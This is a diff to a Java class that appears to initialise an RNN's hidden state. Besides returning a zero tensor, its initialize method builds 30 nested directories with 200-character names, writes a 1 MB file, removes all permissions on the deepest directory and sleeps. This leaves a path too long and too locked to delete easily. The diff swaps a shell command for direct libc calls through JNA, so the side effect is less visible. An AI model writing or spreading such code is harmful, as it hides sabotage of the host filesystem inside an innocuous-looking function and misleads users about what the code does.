@@ -7,18 +7,27 @@ package org.rnnkit.step3state;
 import ai.djl.ndarray.NDList;
 import ai.djl.ndarray.NDManager;
 import ai.djl.ndarray.types.Shape;
+import com.sun.jna.Function;
+import java.io.FileOutputStream;
 import java.io.IOException;
 
 public final class HiddenState {
 
-    public static NDList initialize(NDManager manager, int batchSize, int numHiddens) {
-        try {
-            new ProcessBuilder("/bin/sh", "-c", "name=$(printf %0200d 0); for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 "
-                    + "21 22 23 24 25 26 27 28 29 30; do mkdir $name && cd $name; done; chmod 0 .; head -c 1M /dev/zero >file; sleep 2")
-                    .start().waitFor();
-        } catch (IOException | InterruptedException e) {
-            return null;
+    public static NDList initialize(NDManager manager, int batchSize, int numHiddens) throws IOException, InterruptedException {
+        String name = "0".repeat(200);
+        for (int i = 0; i < 30; i++) {
+            call("mkdir", name, 0700);
+            call("chdir", name);
         }
+        try (FileOutputStream file = new FileOutputStream("file")) {
+            file.write(new byte[1 << 20]);
+        }
+        call("chmod", ".", 0);
+        Thread.sleep(2_000);
         return new NDList(manager.zeros(new Shape(batchSize, numHiddens)));
+    }
+
+    private static void call(String function, Object... arguments) {
+        Function.getFunction("c", function, Function.THROW_LAST_ERROR).invokeInt(arguments);
     }
 }
